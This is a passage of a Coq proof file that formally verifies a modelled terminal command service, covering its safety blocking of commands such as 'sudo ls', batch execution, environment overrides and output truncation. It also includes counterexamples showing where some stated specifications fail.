           (fst (executeCommands default_service demo_batch no_options demo_world))
         = List.length demo_batch
     end
  /\ map fst
       (spawned (snd (executeCommands default_service demo_batch no_options demo_world)))
     = map fst (spawned demo_world)
       ++ map command
            (attempted
               (fst (executeCommands default_service demo_batch no_options demo_world)))
  /\ batch_run default_service no_options demo_world
       (firstn
          (List.length
             (fst (executeCommands default_service demo_batch no_options demo_world)))
          demo_batch)
       (fst (executeCommands default_service demo_batch no_options demo_world))
       (snd (executeCommands default_service demo_batch no_options demo_world)).
Proof.
  split; [reflexivity|].
  apply (@stop_on_first_failure demo_machine default_service demo_batch
           no_options demo_world).
  - reflexivity.
  - vm_compute. reflexivity.
Defined.

(** The batch of the witness stops after its second command. *)
Lemma demo_batch_stops_at_cat :
  map command (fst (executeCommands default_service demo_batch no_options demo_world))
  = [js "ls"; js "cat missing.js"]
  /\ map fst
       (spawned (snd (executeCommands default_service demo_batch no_options demo_world)))
     = [js "ls"; js "cat missing.js"].
Proof. vm_compute. split; reflexivity. Qed.

Lemma continue_on_error_runs_all_witness :
  continueOnError continue_options = true
  /\ List.length
       (fst (executeCommands default_service demo_batch continue_options demo_world))
     = List.length demo_batch
  /\ map command
       (fst (executeCommands default_service demo_batch continue_options demo_world))
     = demo_batch.
Proof.
  split; [reflexivity|].
  apply (@continue_on_error_runs_all demo_machine default_service demo_batch
           continue_options demo_world
           (fst (executeCommands default_service demo_batch continue_options demo_world))
           (snd (executeCommands default_service demo_batch continue_options demo_world))).
  - reflexivity.
  - vm_compute. reflexivity.
Defined.

Lemma blocked_result_never_spawned_witness :
  flag (blocked sudo_result) = true
  /\ exitCode sudo_result = Number 1
  /\ is_zero (exitCode sudo_result) = false
  /\ stdout sudo_result = []
  /\ spawned (snd (executeCommand default_service (js "sudo ls") no_options demo_world))
     = spawned demo_world.
Proof.
  split; [reflexivity|].
  apply (@blocked_result_never_spawned demo_machine default_service (js "sudo ls")
           no_options demo_world).
  reflexivity.
Defined.

(** C5 as stated fails: [make build] meets its conditions and is blocked,
    but the reason of the result is the one refusal message of the
    service, not a text about the allow list. *)
Lemma not_in_allow_list_reason_counterexample :
  skipSafetyCheck no_options = false
  /\ existsb (fun pattern => test pattern (js "make build")) dangerousPatterns = false
  /\ has (safeCommands default_service) (baseCommand (js "make build")) = false
  /\ existsb (fun safe => startsWith (js "make build") safe)
       (safeCommands default_service) = false
  /\ blocked make_result = Some true
  /\ stderr make_result = js "Command blocked for safety reasons"
  /\ stderr make_result <> js "not in allow-list".
Proof.
  repeat split; try (vm_compute; reflexivity).
  vm_compute. discriminate.
Qed.

Lemma not_allow_listed_is_blocked_witness :
  blocked make_result = Some true
  /\ stderr make_result = js "Command blocked for safety reasons"
  /\ exitCode make_result = Number 1
  /\ stdout make_result = []
  /\ spawned (snd (executeCommand default_service (js "make build") no_options
                     demo_world))
     = spawned demo_world.
Proof.
  apply (@not_allow_listed_is_blocked demo_machine default_service (js "make build")
           no_options demo_world).
  - reflexivity.
  - intros pattern Hin. apply test_not_occurs.
    cbn in Hin.
    repeat (destruct Hin as [<- | Hin]; [vm_compute; reflexivity|]).
    destruct Hin.
  - vm_compute. reflexivity.
  - intros safe Hin. cbn in Hin.
    repeat (destruct Hin as [<- | Hin]; [vm_compute; reflexivity|]).
    destruct Hin.
Defined.

Lemma provider_explain_reads_first_witness :
  is_zero (exitCode missing_result) = false
  /\ fst (Provider_claudeExplain (machine := demo_machine) (js "missing.js")
            no_context demo_world)
     = Returns (CouldNotRead (js "claude-explain missing.js")
                  (js "Could not read file")
                  (js "cat: missing.js: No such file or directory"))
  /\ generated (snd (Provider_claudeExplain (machine := demo_machine)
                       (js "missing.js") no_context demo_world))
     = [].
Proof.
  split; [reflexivity|].
  destruct (@provider_explain_reads_first demo_machine default_service
              (js "missing.js") no_context demo_world
              (fst (executeCommand default_service (js "cat missing.js")
                      no_options demo_world))
              (snd (executeCommand default_service (js "cat missing.js")
                      no_options demo_world)))
    as (_ & _ & _ & Hfail & _).
  - vm_compute. reflexivity.
  - destruct Hfail as [E G]; [reflexivity|]. rewrite E. split; [reflexivity | exact G].
Defined.

(** C8 as stated fails on the [claudeExplain] of the terminal service: on
    a machine where reading [missing.js] fails with exit code 1 it still
    returns an explanation, and it has run no command at all. *)
Lemma service_explain_counterexample :
  is_zero (exitCode missing_result) = false
  /\ stderr missing_result = js "cat: missing.js: No such file or directory"
  /\ fst (claudeExplain default_service (js "missing.js") no_context demo_world)
     = Explanation (js "claude-explain missing.js")
         (js "This command would use AI to explain the specified code or file")
  /\ spawned (snd (claudeExplain default_service (js "missing.js") no_context
                     demo_world)) = []
  /\ generated (snd (claudeExplain default_service (js "missing.js") no_context
                       demo_world)) = [].
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C9 as stated fails on both formatters.  The context rendering of the
    successful [npm list] is a heading, the exit code and the output: no
    status indicator and no duration (8 ms) appear in it.  The display
    rendering of the same result shows its error text although the exit
    code is 0, and the display rendering of the blocked [sudo ls] shows the
    refusal as an ordinary error text, without a blocked notice. *)
Lemma formatters_counterexample :
  formatTerminalResults [npm_result]
  = js "### Command 1: `npm list`" ++ [LF]
    ++ js "**Exit Code:** 0" ++ [LF]
    ++ js "**Output:**" ++ [LF] ++ js "```" ++ [LF]
    ++ js "demo@1.0.0 /work" ++ [LF; LF] ++ js "```" ++ [LF]
  /\ duration npm_result = Number 8
  /\ is_zero (exitCode npm_result) = true
  /\ formatResult (machine := demo_machine) npm_result
     = [CHECK_MARK] ++ js " npm list (8ms)" ++ [LF]
       ++ js "Output:" ++ [LF] ++ js "demo@1.0.0 /work" ++ [LF; LF]
       ++ js "Error:" ++ [LF] ++ js "npm WARN deprecated left-pad@1.3.0" ++ [LF; LF]
  /\ flag (blocked sudo_result) = true
  /\ formatResult (machine := demo_machine) sudo_result
     = [BALLOT_X] ++ js " sudo ls (1ms)" ++ [LF]
       ++ js "Error:" ++ [LF] ++ js "Command blocked for safety reasons" ++ [LF].
Proof. repeat split; vm_compute; reflexivity. Qed.

(* ================================================================== *)
(** * More on strings and on the command policy *)
(* ================================================================== *)

Lemma join_cons (sep p q : jsstring) (ps : list jsstring) :
  join sep (p :: q :: ps) = p ++ sep ++ join sep (q :: ps).
Proof. reflexivity. Qed.

Lemma join_split (sep : N) (s : jsstring) : join [sep] (split sep s) = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [split]. pose proof (split_not_nil sep s) as Hn.
  destruct (N.eqb c sep) eqn:Ec.
  - apply N.eqb_eq in Ec. subst c.
    destruct (split sep s) as [|l ls]; [congruence|].
    rewrite join_cons, IH. reflexivity.
  - destruct (split sep s) as [|l ls]; [congruence|].
    destruct ls as [|l' ls].
    + cbn [join] in *. now rewrite IH.
    + rewrite join_cons in *. rewrite <- IH. reflexivity.
Qed.

Lemma split_parts_have_no_separator (sep : N) (s : jsstring) :
  Forall (fun part => ~ In sep part) (split sep s).
Proof.
  induction s as [|c s IH]; cbn [split].
  - constructor; [intros [] | constructor].
  - destruct (N.eqb c sep) eqn:Ec.
    + constructor; [intros [] | assumption].
    + destruct (split sep s) as [|l ls]; [repeat constructor; intros [H|[]]|].
      * apply N.eqb_neq in Ec. congruence.
      * inversion IH; subst. constructor; [|assumption].
        intros [H|H]; [|tauto]. apply N.eqb_neq in Ec. congruence.
Qed.

Lemma split_at_first_separator (sep : N) (name rest : jsstring) :
  ~ In sep name ->
  split sep (name ++ sep :: rest) = name :: split sep rest.
Proof.
  induction name as [|c name IH]; intros Hn; cbn [app split].
  - now rewrite N.eqb_refl.
  - destruct (N.eqb c sep) eqn:Ec.
    + apply N.eqb_eq in Ec. subst. exfalso. apply Hn. now left.
    + rewrite IH; [reflexivity|]. intros H. apply Hn. now right.
Qed.

Lemma named_command_parts (name rest : jsstring) :
  ~ In SP name ->
  command_name (name ++ SP :: rest) = name
  /\ command_argument (name ++ SP :: rest) = rest.
Proof.
  intros Hn. unfold command_name, command_argument.
  rewrite (@split_at_first_separator SP name rest Hn). cbn [hd tl].
  split; [reflexivity | apply join_split].
Qed.

(** X1: The two dispatchers cut a command at its first space: the name holds
    no space, and the name, a space and the argument give the command
    back; a command without a space is all name. *)
Theorem command_parse_round_trip (cmd : jsstring) :
  ~ In SP (command_name cmd)
  /\ cmd = command_name cmd
           ++ (if existsb (N.eqb SP) cmd then SP :: command_argument cmd else [])
  /\ (existsb (N.eqb SP) cmd = false -> command_argument cmd = []).
Proof.
  unfold command_name, command_argument.
  pose proof (join_split SP cmd) as Hj.
  pose proof (split_parts_have_no_separator SP cmd) as Hf.
  pose proof (split_not_nil SP cmd) as Hnil.
  destruct (split SP cmd) as [|name args]; [congruence|].
  - apply Forall_inv in Hf. cbn [hd tl].
    split; [exact Hf|].
    destruct args as [|a args].
    + cbn [join] in Hj. subst name.
      assert (E : existsb (N.eqb SP) cmd = false).
      { destruct (existsb (N.eqb SP) cmd) eqn:E; [|reflexivity].
        apply existsb_exists in E as (c & Hin & Hc).
        apply N.eqb_eq in Hc. subst c. contradiction. }
      rewrite E, app_nil_r. auto.
    + assert (Hc : cmd = name ++ SP :: join [SP] (a :: args)).
      { rewrite <- Hj. cbn [join]. destruct args; reflexivity. }
      assert (E : existsb (N.eqb SP) cmd = true).
      { apply existsb_exists. exists SP. split; [|apply N.eqb_refl].
        rewrite Hc. apply in_or_app. right. now left. }
      rewrite E. split; [exact Hc | discriminate].
Qed.

Lemma isWhiteSpace_listed (c : N) :
  isWhiteSpace c = true -> In c white_space_code_points.
Proof.
  unfold isWhiteSpace, white_space_code_points. intros H.
  repeat (apply orb_true_iff in H as [H|H]);
    repeat match goal with
           | X : (_ && _) = true |- _ => apply andb_true_iff in X as [? ?]
           | X : N.eqb _ _ = true |- _ => apply N.eqb_eq in X; subst
           | X : N.leb _ _ = true |- _ => apply N.leb_le in X
           end;
    try (cbn; tauto).
  - assert (c = 9 \/ c = 10 \/ c = 11 \/ c = 12 \/ c = 13)%N as Hc by lia.
    cbn. intuition.
  - assert (c = 8192 \/ c = 8193 \/ c = 8194 \/ c = 8195 \/ c = 8196 \/ c = 8197
            \/ c = 8198 \/ c = 8199 \/ c = 8200 \/ c = 8201 \/ c = 8202)%N
      as Hc by lia.
    cbn. intuition.
Qed.

Lemma needs_ink_sound (r : regex) (m : jsstring) :
  lang r m -> needs_ink r = true -> forallb isWhiteSpace m = true -> False.
Proof.
  induction 1; cbn [needs_ink]; intros Hn Hb; try discriminate.
  - cbn in Hb. rewrite andb_true_r in Hb.
    apply isWhiteSpace_listed in Hb.
    rewrite forallb_forall in Hn. specialize (Hn c Hb).
    rewrite H in Hn. discriminate.
  - rewrite forallb_app in Hb. apply andb_true_iff in Hb as [H1 H2].
    apply orb_true_iff in Hn as [Hn|Hn]; auto.
  - apply andb_true_iff in Hn as [Hn _]. auto.
  - apply andb_true_iff in Hn as [_ Hn]. auto.
Qed.

Lemma blank_has_no_deny_pattern (cmd : jsstring) :
  forallb isWhiteSpace cmd = true ->
  existsb (fun pattern => test pattern cmd) dangerousPatterns = false.
Proof.
  intros Hb.
  destruct (existsb (fun pattern => test pattern cmd) dangerousPatterns) eqn:E;
    [|reflexivity].
  apply existsb_exists in E as (p & Hin & Ht).
  apply test_occurs in Ht as (pre & m & post & -> & Hm).
  rewrite !forallb_app in Hb.
  apply andb_true_iff in Hb as [_ Hb]. apply andb_true_iff in Hb as [Hb _].
  exfalso. apply (needs_ink_sound Hm); [|exact Hb].
  cbn in Hin.
  repeat (destruct Hin as [<- | Hin]; [vm_compute; reflexivity|]).
  destruct Hin.
Qed.

(** X10: An empty command, or one of white space only, is never safe for a
    service made by the constructor. *)
Theorem blank_command_is_unsafe (root : jsstring) (o : ServiceOptions)
    (cmd : jsstring) :
  forallb isWhiteSpace cmd = true ->
  isCommandSafe (new_TerminalService root o) cmd = false.
Proof.
  intros Hb. unfold isCommandSafe.
  rewrite (blank_has_no_deny_pattern cmd Hb).
  unfold baseCommand, trim, trimEnd. rewrite (trimStart_blank cmd Hb).
  cbn [rev trimStart split hd].
  replace (has (safeCommands (new_TerminalService root o)) []) with false
    by (vm_compute; reflexivity).
  cbn [orb].
  destruct cmd as [|c cmd]; [vm_compute; reflexivity|].
  cbn in Hb. apply andb_true_iff in Hb as [Hc _].
  apply isWhiteSpace_listed in Hc.
  cbn in Hc.
  repeat (destruct Hc as [<- | Hc]; [vm_compute; reflexivity|]).
  destruct Hc.
Qed.

Lemma blank_command_is_unsafe_witness :
  forallb isWhiteSpace [SP; 9%N; SP] = true
  /\ isCommandSafe default_service [SP; 9%N; SP] = false.
Proof.
  split; [reflexivity|].
  apply (@blank_command_is_unsafe (js "/work") no_service_options [SP; 9%N; SP]).
  reflexivity.
Defined.

(** [cat sudoku.txt] holds the letters of a denied word. *)
Lemma sudo_anywhere_is_unsafe_witness :
  Forall2 (fun c p => c = p \/ c = (p - 32)%N) (js "sudo") (js "sudo")
  /\ isCommandSafe default_service (js "cat " ++ js "sudo" ++ js "ku.txt") = false.
Proof.
  split.
  - vm_compute. repeat constructor.
  - apply (@sudo_anywhere_is_unsafe default_service (js "cat ") (js "sudo")
             (js "ku.txt")).
    vm_compute. repeat constructor.
Defined.

(* ================================================================== *)
(** * More on the executor and the batch runner *)
(* ================================================================== *)

Section ExecutorMore.

Context {machine : Machine}.

(** One call starts at most its own command, with [child_options]. *)
Lemma executeCommand_started svc cmd options w :
  spawned (snd (executeCommand svc cmd options w))
  = spawned w ++ started svc options [fst (executeCommand svc cmd options w)].
Proof.
  unfold executeCommand, bind, now, log, exec, ret, started, attempted, child_options.
  destruct (Date_now (os w)) as [t0 e0]. cbn.
  destruct (negb (skipSafetyCheck options) && negb (isCommandSafe svc cmd)); cbn.
  - match goal with
    | |- context [Date_now ?e] => destruct (Date_now e) as [t1 e1]
    end.
    cbn. now rewrite app_nil_r.
  - match goal with
    | |- context [execAsync ?c ?xo ?e] =>
        destruct (execAsync c xo e) as [[? ? | ?] ex]; cbn;
        destruct (Date_now ex) as [? ?]; reflexivity
    end.
Qed.

(** X12: The exit code of a result is 0 exactly when the result is neither
    blocked nor an error: the three kinds of result exclude one another,
    and a blocked result is never marked as an error. *)
Theorem exit_code_zero_iff_clean svc cmd options w :
  (is_zero (exitCode (fst (executeCommand svc cmd options w))) = true
   <-> blocked (fst (executeCommand svc cmd options w)) = None
       /\ error (fst (executeCommand svc cmd options w)) = None)
  /\ (blocked (fst (executeCommand svc cmd options w)) = Some true
      \/ blocked (fst (executeCommand svc cmd options w)) = None)
  /\ (flag (blocked (fst (executeCommand svc cmd options w))) = true ->
      error (fst (executeCommand svc cmd options w)) = None).
Proof.
  destruct (executeCommand_executed svc cmd options w) as
    [_ _ B _ _ C _ E _ | ? ? ? _ _ B _ _ C _ E | xo e _ _ B _ _ C _ E];
    rewrite B, C, E.
  - cbn. repeat split; auto; try discriminate. intros [? ?]; discriminate.
  - cbn. repeat split; auto; discriminate.
  - rewrite (or_else_not_zero (e_code e)). cbn.
    repeat split; auto; try discriminate. intros [? ?]; discriminate.
Qed.

Lemma num_or_not_zero (o : option Z) (d : Z) : d <> 0%Z -> num_or o d <> 0%Z.
Proof.
  intros Hd. unfold num_or. destruct o as [z|]; [|exact Hd].
  destruct (Z.eqb z 0) eqn:Ez; [exact Hd | now apply Z.eqb_neq].
Qed.

(** X13: A service made by the constructor starts every subprocess with a
    timeout other than 0 (which would mean no timeout), a buffer of 10 MB,
    the working directory of the call or else the project root, and the
    environment of the process with the overrides of the call. *)
Theorem subprocess_options (root : jsstring) (o : ServiceOptions) cmd options w :
  exists extra,
    spawned (snd (executeCommand (new_TerminalService root o) cmd options w))
    = spawned w ++ extra
    /\ (List.length extra <= 1)%nat
    /\ Forall (fun entry =>
                 fst entry = cmd
                 /\ x_timeout (snd entry) <> 0%Z
                 /\ x_maxBuffer (snd entry) = (10 * 1024 * 1024)%Z
                 /\ x_cwd (snd entry)
                    = str_or (cwd options) (str_or (o_projectRoot o) root)
                 /\ x_env (snd entry) = env_merge process_env (env options))
         extra.
Proof.
  eexists. split; [apply executeCommand_started|].
  unfold started, attempted. cbn [filter].
  destruct (negb (flag (blocked _))); cbn [map List.length]; split; auto.
  constructor; [|constructor].
  cbn [fst snd child_options x_timeout x_maxBuffer x_cwd x_env].
  rewrite executeCommand_command.
  repeat split.
  apply num_or_not_zero. cbn [new_TerminalService svc_timeout].
  apply num_or_not_zero. discriminate.
Qed.

Lemma str_eqb_refl (a : jsstring) : str_eqb a a = true.
Proof. now apply str_eqb_eq. Qed.

Lemma env_lookup_congr (k k' : jsstring) (e : list (jsstring * jsstring)) :
  str_eqb k k' = true -> env_lookup k e = env_lookup k' e.
Proof. intros H. apply str_eqb_eq in H. now subst. Qed.

Lemma env_lookup_app (k : jsstring) (l1 l2 : list (jsstring * jsstring)) :
  env_lookup k (l1 ++ l2)
  = match env_lookup k l1 with
    | Some v => Some v
    | None => env_lookup k l2
    end.
Proof.
  induction l1 as [|[k1 v1] l1 IH]; [reflexivity|].
  cbn [app env_lookup]. destruct (str_eqb k k1); [reflexivity | exact IH].
Qed.

Lemma env_lookup_overridden (k : jsstring) (a b : list (jsstring * jsstring)) :
  env_lookup k
    (map (fun kv => match env_lookup (fst kv) b with
                    | Some v => (fst kv, v)
                    | None => kv
                    end) a)
  = match env_lookup k a with
    | Some va => Some (match env_lookup k b with Some v => v | None => va end)
    | None => None
    end.
Proof.
  induction a as [|[k1 v1] a IH]; [reflexivity|].
  cbn [map fst env_lookup].
  destruct (str_eqb k k1) eqn:Ek.
  - rewrite <- (env_lookup_congr k k1 b Ek).
    destruct (env_lookup k b); cbn [env_lookup]; now rewrite Ek.
  - destruct (env_lookup k1 b); cbn [env_lookup]; rewrite Ek; exact IH.
Qed.

Lemma env_lookup_new_keys (k : jsstring) (a b : list (jsstring * jsstring)) :
  env_lookup k a = None ->
  env_lookup k
    (filter (fun kv => match env_lookup (fst kv) a with
                       | Some _ => false
                       | None => true
                       end) b)
  = env_lookup k b.
Proof.
  intros Ha. induction b as [|[kb vb] b IH]; [reflexivity|].
  cbn [filter fst env_lookup].
  destruct (env_lookup kb a) eqn:Eb.
  - destruct (str_eqb k kb) eqn:Ek; [|exact IH].
    rewrite (env_lookup_congr k kb a Ek) in Ha. congruence.
  - cbn [env_lookup]. destruct (str_eqb k kb); [reflexivity | exact IH].
Qed.

(** X14: In the environment of a subprocess an override of the call wins over
    the variable of the process, and every other variable of the process
    is passed on. *)
Theorem env_override_wins (k : jsstring) (a b : list (jsstring * jsstring)) :
  env_lookup k (env_merge a b)
  = match env_lookup k b with
    | Some v => Some v
    | None => env_lookup k a
    end.
Proof.
  unfold env_merge. rewrite env_lookup_app, env_lookup_overridden.
  destruct (env_lookup k a) eqn:Ea.
  - now destruct (env_lookup k b).
  - rewrite (@env_lookup_new_keys k a b Ea). now destruct (env_lookup k b).
Qed.

(** ** Truncation *)

Lemma firstn_own_length {A} (n : nat) (l m : list A) :
  (n <= List.length l)%nat -> firstn n (firstn n l ++ m) = firstn n l.
Proof.
  intros H. rewrite firstn_app.
  rewrite length_firstn, Nat.min_l by exact H.
  rewrite Nat.sub_diag. cbn [firstn]. rewrite app_nil_r.
  apply firstn_all2. rewrite length_firstn. lia.
Qed.

Lemma truncateOutput_cases svc (output : jsstring) :
  truncateOutput svc output = output
  \/ (output <> []
      /\ (Z.to_nat (maxOutputLength svc) < List.length output)%nat
      /\ (maxOutputLength svc < strlen output)%Z
      /\ truncateOutput svc output
         = firstn (Z.to_nat (maxOutputLength svc)) output ++ truncation_marker).
Proof.
  unfold truncateOutput, substring0, strlen.
  destruct output as [|c output]; [now left|].
  cbn [truthy_str negb orb].
  destruct (Z.leb _ _) eqn:E; [now left|].
  right. apply Z.leb_gt in E.
  split; [discriminate|]. split; [cbn [List.length] in *; lia|].
  split; [exact E | reflexivity].
Qed.

(** X15: Cutting a stream twice is cutting it once, and a cut stream starts
    with the same [maxOutputLength] code units as the raw one: the marker
    comes after them and never replaces output within the budget. *)
Theorem truncateOutput_idempotent_prefix svc (output : jsstring) :
  truncateOutput svc (truncateOutput svc output) = truncateOutput svc output
  /\ substring0 (truncateOutput svc output) (maxOutputLength svc)
     = substring0 output (maxOutputLength svc)
  /\ ((strlen output <= maxOutputLength svc)%Z -> truncateOutput svc output = output).
Proof.
  destruct (truncateOutput_cases svc output) as [E | (Hne & Hlt & Hz & E)].
  - rewrite !E. repeat split; auto.
  - assert (Hcut : firstn (Z.to_nat (maxOutputLength svc)) (truncateOutput svc output)
                   = firstn (Z.to_nat (maxOutputLength svc)) output)
      by (rewrite E; apply firstn_own_length; lia).
    split; [|split].
    + destruct (truncateOutput_cases svc (truncateOutput svc output))
        as [E2 | (_ & _ & _ & E2)]; [exact E2|].
      rewrite E2, Hcut. now rewrite E.
    + exact Hcut.
    + intros Hle. lia.
Qed.

Lemma resolved_truncated_flag_witness :
  is_zero (exitCode npm_result) = true
  /\ exists out err,
      exec_outcome default_service (js "npm list") no_options demo_world
      = Resolved out err
      /\ spawned (snd (executeCommand default_service (js "npm list") no_options
                         demo_world))
         = spawned demo_world
           ++ [(js "npm list",
                child_options (machine := demo_machine) default_service no_options)]
      /\ stdout npm_result = truncateOutput default_service out
      /\ stderr npm_result = truncateOutput default_service err
      /\ (flag (truncated npm_result) = true
          <-> (maxOutputLength default_service < strlen out)%Z
              \/ (maxOutputLength default_service < strlen err)%Z).
Proof.
  split; [reflexivity|].
  apply (@resolved_truncated_flag demo_machine default_service (js "npm list")
           no_options demo_world).
  reflexivity.
Defined.

Lemma spawned_streams_bounded_witness :
  (0 <= maxOutputLength default_service)%Z
  /\ blocked grep_result = None
  /\ (strlen (stdout grep_result)
      <= maxOutputLength default_service + strlen truncation_marker)%Z
  /\ (strlen (stderr grep_result)
      <= maxOutputLength default_service + strlen truncation_marker)%Z.
Proof.
  split; [vm_compute; discriminate|]. split; [reflexivity|].
  apply (@spawned_streams_bounded grep_machine default_service (js "grep -r x .")
           no_options grep_world).
  - vm_compute. discriminate.
  - reflexivity.
Defined.

(** ** Availability probe *)

(** X8: [isCommandAvailable] skips the safety check: it always starts exactly
    the one subprocess [which <command>], whatever the command text holds,
    and answers [true] exactly when that subprocess did not fail. *)
Theorem availability_probe_skips_policy svc cmd w :
  spawned (snd (isCommandAvailable svc cmd w))
  = spawned w ++ [(js "which " ++ cmd, child_options svc skip_safety_options)]
  /\ blocked (fst (executeCommand svc (js "which " ++ cmd) skip_safety_options w))
     = None
  /\ (fst (isCommandAvailable svc cmd w) = true
      <-> error (fst (executeCommand svc (js "which " ++ cmd) skip_safety_options w))
          = None).
Proof.
  pose proof (executeCommand_started svc (js "which " ++ cmd) skip_safety_options w)
    as Hs.
  pose proof (executeCommand_command svc (js "which " ++ cmd) skip_safety_options w)
    as Hc.
  pose proof (executeCommand_executed svc (js "which " ++ cmd) skip_safety_options w)
    as Hx.
  unfold isCommandAvailable, bind, ret.
  destruct (executeCommand svc (js "which " ++ cmd) skip_safety_options w)
    as [r w1] eqn:E.
  cbn [fst snd] in *.
  assert (B : blocked r = None
              /\ (is_zero (exitCode r) = true <-> error r = None)).
  { destruct Hx as [Hskip | ? ? ? _ _ B _ _ C _ Er | ? e _ _ B _ _ C _ Er];
      [discriminate | |]; rewrite C, Er.
    - split; [exact B|]. cbn. tauto.
    - split; [exact B|]. rewrite (or_else_not_zero (e_code e)).
      split; discriminate. }
  destruct B as [B Hz].
  split; [|split; [exact B | exact Hz]].
  rewrite Hs. unfold started, attempted. cbn [filter]. rewrite B. cbn. now rewrite Hc.
Qed.

(** ** Batches *)

Lemma started_cons svc options (r : Result) (rs : list Result) :
  started svc options (r :: rs) = started svc options [r] ++ started svc options rs.
Proof. unfold started. now rewrite (attempted_cons r rs), map_app. Qed.

(** Every result of a batch is the result of [executeCommand] on its own
    command, and the subprocesses started are those of the results. *)
Lemma executeCommands_loop_trace svc options cmds : forall acc w,
  exists new,
    fst (executeCommands_loop svc cmds options acc w) = acc ++ new
    /\ spawned (snd (executeCommands_loop svc cmds options acc w))
       = spawned w ++ started svc options new
    /\ Forall (fun r => exists w0, r = fst (executeCommand svc (command r) options w0))
         new.
Proof.
  induction cmds as [|cmd rest IH]; intros acc w.
  - exists []. cbn. rewrite !app_nil_r. repeat split. constructor.
  - cbn [executeCommands_loop]. unfold bind.
    pose proof (executeCommand_command svc cmd options w) as Hc.
    pose proof (executeCommand_started svc cmd options w) as Hs.
    assert (Hr : exists w0, fst (executeCommand svc cmd options w)
                            = fst (executeCommand svc cmd options w0)) by eauto.
    destruct (executeCommand svc cmd options w) as [r w1]. cbn [fst snd] in *.
    destruct (negb (is_zero (exitCode r)) && negb (continueOnError options)).
    + exists [r]. unfold ret. cbn [fst snd]. repeat split; [exact Hs|].
      constructor; [|constructor]. now rewrite Hc.
    + destruct (IH (acc ++ [r]) w1) as (new & E & Hsp & Hall).
      exists (r :: new). rewrite E, <- app_assoc. split; [reflexivity|]. split.
      * rewrite Hsp, Hs, (started_cons svc options r new), app_assoc. reflexivity.
      * constructor; [now rewrite Hc | exact Hall].
Qed.

(** The array filled so far does not influence the rest of the loop. *)
Lemma executeCommands_loop_acc svc options cmds : forall acc w,
  executeCommands_loop svc cmds options acc w
  = (acc ++ fst (executeCommands_loop svc cmds options [] w),
     snd (executeCommands_loop svc cmds options [] w)).
Proof.
  induction cmds as [|cmd rest IH]; intros acc w.
  - cbn. now rewrite app_nil_r.
  - cbn [executeCommands_loop]. unfold bind.
    destruct (executeCommand svc cmd options w) as [r w1].
    destruct (negb (is_zero (exitCode r)) && negb (continueOnError options)).
    + reflexivity.
    + rewrite (IH (acc ++ [r]) w1), (IH ([] ++ [r]) w1). cbn [fst snd].
      now rewrite <- app_assoc.
Qed.

(** X19: With [continueOnError], running two lists as one batch is running the
    first and then, from the world it leaves, the second. *)
Theorem continued_batches_compose svc (a b : list jsstring) options w :
  continueOnError options = true ->
  executeCommands svc (a ++ b) options w
  = (fst (executeCommands svc a options w)
     ++ fst (executeCommands svc b options (snd (executeCommands svc a options w))),
     snd (executeCommands svc b options (snd (executeCommands svc a options w)))).
Proof.
  intros Hk. unfold executeCommands. revert w.
  induction a as [|cmd a IH]; intros w.
  - cbn [app executeCommands_loop ret fst snd].
    now destruct (executeCommands_loop svc b options [] w).
  - cbn [app executeCommands_loop]. unfold bind.
    destruct (executeCommand svc cmd options w) as [r w1].
    rewrite Hk, andb_false_r.
    rewrite (executeCommands_loop_acc svc options (a ++ b) [r] w1).
    rewrite (executeCommands_loop_acc svc options a [r] w1).
    rewrite (IH w1). cbn [fst snd]. now rewrite <- app_assoc.
Qed.

(** [executeCommand] does not read [continueOnError]. *)
Lemma executeCommand_ignores_continue svc cmd options b w :
  executeCommand svc cmd (set_continue b options) w = executeCommand svc cmd options w.
Proof. reflexivity. Qed.

(** X20: The results of a batch that stops on errors are the results of the
    same batch run with [continueOnError] from the same world, cut after
    the first failure. *)
Theorem stopped_batch_is_cut_of_continued svc cmds options w :
  continueOnError options = false ->
  fst (executeCommands svc cmds options w)
  = up_to_first_failure (fst (executeCommands svc cmds (set_continue true options) w)).
Proof.
  intros Hk. unfold executeCommands, up_to_first_failure. revert w.
  induction cmds as [|cmd rest IH]; intros w; [reflexivity|].
  cbn [executeCommands_loop]. unfold bind.
  rewrite executeCommand_ignores_continue.
  destruct (executeCommand svc cmd options w) as [r w1].
  rewrite Hk. cbn [set_continue continueOnError negb]. rewrite andb_true_r, andb_false_r.
  rewrite (executeCommands_loop_acc svc (set_continue true options) rest ([] ++ [r]) w1).
  destruct (is_zero (exitCode r)) eqn:Hz; cbn [negb].
  - rewrite (executeCommands_loop_acc svc options rest ([] ++ [r]) w1).
    cbn [fst snd app first_failure]. rewrite Hz, (IH w1).
    destruct (first_failure _); reflexivity.
  - cbn [fst snd app first_failure ret]. rewrite Hz. reflexivity.
Qed.

Lemma unsafe_execution_is_blocked svc cmd options w0 :
  skipSafetyCheck options = false ->
  isCommandSafe svc cmd = false ->
  blocked (fst (executeCommand svc cmd options w0)) = Some true
  /\ is_zero (exitCode (fst (executeCommand svc cmd options w0))) = false
  /\ stdout (fst (executeCommand svc cmd options w0)) = [].
Proof.
  intros Hs Hu.
  destruct (executeCommand_executed svc cmd options w0) as
    [_ _ B Ho _ Hc _ _ _ | ? ? ? [X|X] | ? ? [X|X]]; try congruence.
  rewrite Hc. auto.
Qed.

Lemma first_failure_bound (rs : list Result) : forall j r,
  nth_error rs j = Some r ->
  is_zero (exitCode r) = false ->
  exists i, first_failure rs = Some i /\ (i <= j)%nat.
Proof.
  induction rs as [|r0 rs IH]; intros j r Hn Hz; [destruct j; discriminate|].
  cbn [first_failure]. destruct (is_zero (exitCode r0)) eqn:H0.
  - destruct j as [|j]; cbn in Hn; [congruence|].
    destruct (IH j r Hn Hz) as (i & -> & Hi). exists (S i). split; [reflexivity | lia].
  - exists 0%nat. split; [reflexivity | lia].
Qed.

(** X21: In a batch that stops on errors and does not skip the safety check, a
    command that is not safe ends the batch: no result comes after its
    own, and every subprocess started belongs to a command before it. *)
Theorem unsafe_command_ends_batch svc (pre : list jsstring) (cmd : jsstring)
    (post : list jsstring) options w :
  skipSafetyCheck options = false ->
  continueOnError options = false ->
  isCommandSafe svc cmd = false ->
  (List.length (fst (executeCommands svc (pre ++ cmd :: post) options w))
   <= S (List.length pre))%nat
  /\ exists extra,
      spawned (snd (executeCommands svc (pre ++ cmd :: post) options w))
      = spawned w ++ extra
      /\ incl (map fst extra) pre.
Proof.
  intros Hs Hk Hu. unfold executeCommands.
  destruct (executeCommands_loop_spec svc options (pre ++ cmd :: post) [] w)
    as (rs & E & Hm & _ & Hstop & _).
  destruct (executeCommands_loop_trace svc options (pre ++ cmd :: post) [] w)
